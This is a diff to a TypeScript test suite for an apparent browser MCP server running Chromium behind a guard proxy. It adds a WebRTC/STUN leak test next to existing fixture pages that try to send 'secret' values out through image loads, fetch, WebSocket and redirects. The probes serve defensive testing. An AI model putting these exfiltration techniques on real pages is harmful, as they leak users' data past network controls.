@@ -6,6 +6,7 @@
  * see a request. Screenshots land in test-artifacts/browser/.
  */
 import assert from 'node:assert/strict';
+import { createSocket } from 'node:dgram';
 import { spawnSync } from 'node:child_process';
 import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { createServer, type IncomingMessage, type Server } from 'node:http';
@@ -79,6 +80,10 @@ function testApp(outside: () => string, seen: Array<{ path: string; role?: strin
           return html(200, page('Exfil', `<img src="${outside()}/img?secret=1"><img src="/redirect-img">
 <script>fetch('${outside()}/fetch?secret=2').catch((e) => console.log('fetch failed: ' + e.message));
 new WebSocket('${outside().replace('http', 'ws')}/ws?secret=4');</script>`));
+        case 'GET /webrtc':
+          // ICE gathering sends STUN over UDP, past any HTTP proxy (and resolves a STUN host name over DNS).
+          return html(200, page('WebRTC', `<script>const pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${Number(url.searchParams.get('port'))}' }] });
+pc.createDataChannel('x'); pc.createOffer().then((o) => pc.setLocalDescription(o)).catch((e) => console.log('webrtc: ' + e.message));</script>`));
         case 'GET /redirect-img':
           return redirect(`${outside()}/img-redirect?secret=5`);
         case 'GET /redirect-out':
@@ -351,6 +356,21 @@ describe('browser MCP server against real Chromium', () => {
     // The second layer did the refusing for the redirects and the WebSocket.
     assert.match(server.stderr(), new RegExp(`guard proxy refused (GET|CONNECT) \\S*${outsideOrigin.slice(7)}`));
     assert.deepEqual(outsideHits, [], 'nothing reached the outside server');
+  });
+
+  it('sends nothing over WebRTC: no STUN packet leaves for a host the guard proxy would refuse', async () => {
+    const packets: string[] = [];
+    const udp = createSocket('udp4');
+    udp.on('message', (m, from) => packets.push(`${m.length} bytes from ${from.address}:${from.port}`));
+    await new Promise<void>((ok) => udp.bind(0, '127.0.0.1', ok));
+    try {
+      await server.call('browser_navigate', { url: `/webrtc?port=${udp.address().port}` });
+      // ICE gathering starts at once and retransmits within a second: this waits it out.
+      await new Promise((r) => setTimeout(r, 2_500));
+      assert.deepEqual(packets, []);
+    } finally {
+      udp.close();
+    }
   });
 
   it('closes Chromium when the client closes stdin', async () => {
